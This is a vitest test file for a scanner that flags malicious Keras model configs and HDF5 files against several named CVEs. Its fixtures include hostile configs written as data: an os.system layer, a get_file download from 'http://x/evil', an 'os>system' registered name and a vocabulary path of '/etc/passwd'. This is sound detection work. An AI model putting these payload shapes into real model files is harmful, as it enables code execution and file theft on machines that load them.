import { describe, expect, it } from 'vitest'
import { buildHdf5 } from '../../../fixtures/generators/structured/hdf5'
import {
  denseLayer,
  kerasLayer,
  kerasModel,
  kerasV2Config,
  lambdaLayerV3,
} from '../../../fixtures/generators/structured/keras'
import { judge, ruleIds } from './helpers'

const config = (o: unknown): Buffer => Buffer.from(JSON.stringify(o))

describe('Keras v3 config.json', () => {
  it('a benign Sequential model is safe, with metadata', () => {
    const r = judge(
      config(kerasModel([denseLayer(4), denseLayer(2)])),
      'config.json',
      '/m/model.keras',
      'config.json',
    )
    expect(r.format).toBe('keras-config')
    expect(r.verdict).toBe('safe')
    expect(r.metadata).toMatchObject({ architecture: 'Sequential' })
  })

  it('CVE-2024-3660: a Lambda layer with serialized code is critical', () => {
    const r = judge(
      config(kerasModel([lambdaLayerV3()])),
      'config.json',
      '/m/model.keras',
      'config.json',
    )
    expect(ruleIds(r)).toEqual(['keras.lambda-layer'])
    expect(r.verdict).toBe('malicious')
  })

  it('CVE-2024-3660: Lambda is critical whatever keras_version the archive claims', () => {
    const m = { ...kerasModel([lambdaLayerV3()]), keras_version: '3.9.0' }
    expect(judge(config(m), 'config.json').verdict).toBe('malicious')
  })

  it('CVE-2025-1550: a module outside Keras is critical', () => {
    const m = kerasModel([kerasLayer('system', { command: 'id' }, 'os')])
    const r = judge(config(m), 'config.json')
    expect(ruleIds(r)).toContain('keras.external-module')
    expect(r.verdict).toBe('malicious')
  })

  it('CVE-2025-1550: builtins and __main__ modules are critical too', () => {
    for (const mod of ['builtins', '__main__', 'subprocess.Popen']) {
      expect(judge(config(kerasModel([kerasLayer('x', {}, mod)])), 'config.json').verdict).toBe(
        'malicious',
      )
    }
  })

  it('CVE-2025-8747: keras.utils.get_file reached from the config is critical', () => {
    const m = kerasModel([
      {
        module: 'keras.utils',
        class_name: 'get_file',
        config: { origin: 'http://x/evil', fname: '/tmp/x' },
        registered_name: null,
      },
    ])
    const r = judge(config(m), 'config.json')
    expect(ruleIds(r)).toContain('keras.unsafe-function')
    expect(r.verdict).toBe('malicious')
  })

  it('CVE-2025-9906: enable_unsafe_deserialization reached from the config is critical', () => {
    const m = kerasModel([
      {
        module: 'keras.config',
        class_name: 'function',
        config: 'enable_unsafe_deserialization',
        registered_name: 'function',
      },
    ])
    expect(ruleIds(judge(config(m), 'config.json'))).toContain('keras.unsafe-function')
  })

  it('official Keras packages (keras_hub, keras_nlp, keras_cv, tf_keras) are not flagged', () => {
    const layers = [
      'keras_hub.src.models.gemma',
      'keras_nlp.src.layers',
      'keras_cv.src.layers',
      'tf_keras.layers',
    ].map((m) => kerasLayer('Block', { units: 2 }, m, `${m.split('.')[0]}>Block`))
    expect(judge(config(kerasModel(layers)), 'config.json').verdict).toBe('safe')
  })

  it('a look-alike module root (kerasx) is critical', () => {
    expect(
      judge(config(kerasModel([kerasLayer('x', {}, 'kerasx.layers')])), 'config.json').verdict,
    ).toBe('malicious')
  })

  it('custom registered objects are medium', () => {
    const m = kerasModel([
      kerasLayer('MyBlock', { units: 3 }, 'keras.layers', 'my_project>MyBlock'),
    ])
    const r = judge(config(m), 'config.json')
    expect(ruleIds(r)).toEqual(['keras.custom-object'])
    expect(r.verdict).toBe('suspicious')
  })

  it('metadata.json of a .keras archive gives the Keras version', () => {
    const r = judge(
      Buffer.from(JSON.stringify({ keras_version: '3.6.0', date_saved: '2025-01-01@00:00:00' })),
      'metadata.json',
      '/m/model.keras',
      'metadata.json',
    )
    expect(r.format).toBe('keras-config')
    expect(r.verdict).toBe('safe')
    expect(r.metadata).toEqual({ kerasVersion: '3.6.0' })
  })

  it('a transformers config.json is not claimed as a Keras config', () => {
    const r = judge(
      config({ architectures: ['LlamaForCausalLM'], model_type: 'llama' }),
      'config.json',
    )
    expect(r.format).toBe('unknown')
  })

  it('a malformed config is invalid', () => {
    const r = judge(Buffer.from('{"class_name": "Sequential", "config": {'), 'config.json')
    expect(r.verdict).toBe('invalid')
    expect(ruleIds(r)).toContain('keras.invalid-config')
  })

  it('a config nested too deeply is reported, not silently passed', () => {
    let deep: unknown = { class_name: 'Dense', config: {} }
    for (let i = 0; i < 400; i++) deep = { class_name: 'Wrapper', config: { layer: deep } }
    const r = judge(config(deep), 'config.json')
    expect(r.verdict).not.toBe('safe')
  })
})

describe('Keras .h5 (HDF5) without an HDF5 library', () => {
  const attrs = (cfg: unknown): Record<string, string> => ({
    keras_version: '2.15.0',
    backend: 'tensorflow',
    model_config: JSON.stringify(cfg),
  })

  for (const attrVersion of [1, 3] as const) {
    it(`reads model_config from a version-${attrVersion} attribute message (benign model is safe)`, () => {
      const r = judge(buildHdf5(attrs(kerasV2Config(false)), { attrVersion }), 'model.h5')
      expect(r.format).toBe('keras-h5')
      expect(r.verdict).toBe('safe')
      expect(r.metadata).toMatchObject({
        kerasVersion: '2.15.0',
        backend: 'tensorflow',
        architecture: 'Sequential',
      })
    })

    it(`CVE-2025-9905: a Lambda layer in .h5 (attribute v${attrVersion}) is critical`, () => {
      const r = judge(buildHdf5(attrs(kerasV2Config(true)), { attrVersion }), 'model.h5')
      expect(ruleIds(r)).toContain('keras.h5-lambda-layer')
      expect(r.verdict).toBe('malicious')
    })
  }

  it('a weights-only HDF5 file (no model_config) is safe', () => {
    const r = judge(buildHdf5({ layer_names: 'dense', backend: 'tensorflow' }), 'model.weights.h5')
    expect(r.verdict).toBe('safe')
  })

  it('a model_config that is not JSON is invalid', () => {
    const r = judge(buildHdf5({ model_config: '{"class_name": broken' }), 'model.h5')
    expect(r.verdict).toBe('invalid')
    expect(ruleIds(r)).toContain('hdf5.invalid')
  })

  it('a model_config attribute whose length runs past the file end is invalid', () => {
    const good = buildHdf5(attrs(kerasV2Config(false)), { trailingBytes: 0 })
    const r = judge(good.subarray(0, good.length - 20), 'model.h5')
    expect(r.verdict).toBe('invalid')
  })

  it('an unknown superblock version is invalid', () => {
    const b = Buffer.from(buildHdf5(attrs(kerasV2Config(false))))
    b[8] = 9
    expect(judge(b, 'model.h5').verdict).toBe('invalid')
  })
})

describe('Keras safe-mode bypasses beyond Lambda (issue 17)', () => {
  const ids = (layers: Record<string, unknown>[]) =>
    judge(Buffer.from(JSON.stringify(kerasModel(layers))), 'config.json').all.map((f) => [
      f.ruleId,
      f.severity,
    ])

  it('TensorFlow functions that run Python or touch files are critical even under tensorflow.*', () => {
    expect(
      ids([kerasLayer('function', { x: 1 }, 'tensorflow.python.ops.script_ops')]),
    ).toContainEqual(['keras.unsafe-function', 'critical'])
    expect(ids([kerasLayer('write_file', {}, 'tensorflow.io')])).toContainEqual([
      'keras.unsafe-function',
      'critical',
    ])
  })

  it('a registered name resolving into os is critical, an ordinary custom layer medium', () => {
    expect(ids([kerasLayer('Foo', {}, 'keras.layers', 'os>system')])).toContainEqual([
      'keras.external-module',
      'critical',
    ])
    expect(ids([kerasLayer('Foo', {}, 'keras.layers', 'my_pkg>Foo')])).toContainEqual([
      'keras.custom-object',
      'medium',
    ])
  })

  it('lookup layers reading a vocabulary file or URL are high; inline vocabularies are fine', () => {
    expect(
      ids([kerasLayer('StringLookup', { vocabulary: '/etc/passwd', name: 'lookup' })]),
    ).toContainEqual(['keras.file-reference', 'high'])
    expect(ids([kerasLayer('StringLookup', { vocabulary: ['a', 'b'], name: 'lookup' })])).toEqual(
      [],
    )
  })
})
